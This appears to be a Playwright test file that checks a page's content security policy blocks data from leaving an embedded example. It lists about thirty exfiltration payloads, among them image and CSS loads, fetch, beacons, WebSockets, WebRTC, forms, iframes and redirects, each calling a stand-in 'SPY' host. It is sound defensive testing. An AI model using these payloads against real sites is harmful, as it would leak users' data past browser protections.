import { expect, test } from '@playwright/test';
import { attack, expectTried, html, openTarget } from './support/attack.ts';
import { type Spy, startSpy } from './support/spy.ts';

let spy: Spy;

test.beforeAll(async () => {
  spy = await startSpy();
});

test.afterAll(() => spy.stop());

/** Roads by which an example could tell a stranger what it knows; `SPY` is the stranger's address. */
const roads: Readonly<Record<string, string>> = {
  'an image': "new Image().src = 'SPY/image?key=1';",
  'an image of a style': "document.body.style.background = 'url(SPY/background)';",
  'a style sheet': html('<link rel="stylesheet" href="SPY/sheet">'),
  'what a style sheet imports': html(
    '<style>@import url(SPY/import); body { cursor: url(SPY/cursor), auto; border-image: url(SPY/border); }</style>',
  ),
  'an image of SVG': html(
    '<svg><image href="SPY/svg"/><use href="SPY/use#a"/><filter><feImage href="SPY/fe"/></filter></svg>',
  ),
  'a source set': html(
    '<picture><source srcset="SPY/source 1x"><img srcset="SPY/set 1x"></picture>',
  ),
  'the icon and manifest of the page': html(
    '<link rel="icon" href="SPY/icon"><link rel="manifest" href="SPY/manifest">',
  ),
  'a prefetch': html('<link rel="prefetch" href="SPY/prefetch">'),
  'a preload': html(
    '<link rel="preload" as="image" href="SPY/preload"><link rel="modulepreload" href="SPY/module">',
  ),
  'rules of speculation': `const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = '{"prefetch":[{"source":"list","urls":["SPY/speculation"]}]}'; document.head.append(rules);`,
  'a font': "await new FontFace('a', 'url(SPY/font)').load();",
  'sound and film': html(
    '<video src="SPY/video" poster="SPY/poster" autoplay></video><audio src="SPY/audio" autoplay></audio>',
  ),
  'an object': html('<object data="SPY/object"></object><embed src="SPY/embed">'),
  'a script':
    "const script = document.createElement('script'); script.src = 'SPY/script'; document.head.append(script);",
  'an imported module': "await import('SPY/module.js');",
  fetch: "await fetch('SPY/fetch');",
  'a request of the old kind':
    "const request = new XMLHttpRequest(); request.open('GET', 'SPY/xhr'); request.send();",
  'a beacon': "navigator.sendBeacon('SPY/beacon');",
  'a stream of events': "new EventSource('SPY/events');",
  'a web socket': "new WebSocket('SPY/socket'.replace('http', 'ws'));",
  'web transport': "new WebTransport('SPY/transport'.replace('http', 'https'));",
  'a worker': 'new Worker(URL.createObjectURL(new Blob([\'fetch("SPY/worker")\'])));',
  'a form': `${html('<form action="SPY/form" method="post"></form>')}document.forms[0].submit();`,
  'the ping of a link':
    html('<a id="ping" href="#x" ping="SPY/ping">a</a>') +
    "document.getElementById('ping').click();",
  'a refresh of the page': html('<meta http-equiv="refresh" content="0;url=SPY/refresh">'),
  'a window': "window.open('SPY/window');",
  'a nested page': html('<iframe src="SPY/nested"></iframe>'),
  'an image of nested markup': html(
    `<iframe srcdoc="<img src='SPY/srcdoc'><link rel=stylesheet href='SPY/srcdoc.css'>"></iframe>`,
  ),
  'an image of a nested document of its own making':
    "const page = document.createElement('iframe'); page.src = URL.createObjectURL(new Blob(['<img src=SPY/blob>'], { type: 'text/html' })); document.body.append(page);",
  'an image of nested data': html('<iframe src="data:text/html,<img src=SPY/data>"></iframe>'),
  'the policy of a nested frame': html('<iframe csp="report-uri SPY/report" srcdoc="a"></iframe>'),
  'an address that it goes to itself': "window.location.href = 'SPY/self';",
  'the address of the page around it': "window.parent.location.href = 'SPY/parent';",
  'a talk between two browsers':
    "const talk = new RTCPeerConnection({ iceServers: [{ urls: 'SPY'.replace('http://', 'stun:') }] }); talk.createDataChannel('a'); await talk.setLocalDescription(await talk.createOffer()); await new Promise((next) => setTimeout(next, 500));",
};

for (const [road, statements] of Object.entries(roads)) {
  test(`nothing leaves an example by ${road}`, async ({ page }) => {
    await openTarget(page);
    spy.heard.length = 0;
    await attack(page, statements.replaceAll('SPY', spy.origin));
    if (road !== 'an address that it goes to itself' && road !== 'a refresh of the page') {
      await expectTried(page);
    }
    // What leaves does so at once or never; the spy stands on the same machine.
    await page.waitForTimeout(400);
    expect(spy.heard).toEqual([]);
    expect(page.url()).toContain('ZSPressable');
  });
}

test('the spy hears what a page without the policy sends', async ({ page }) => {
  spy.heard.length = 0;
  await page.setContent(`<img src="${spy.origin}/image">`);
  await expect.poll(() => spy.heard).toEqual(['/image']);
});
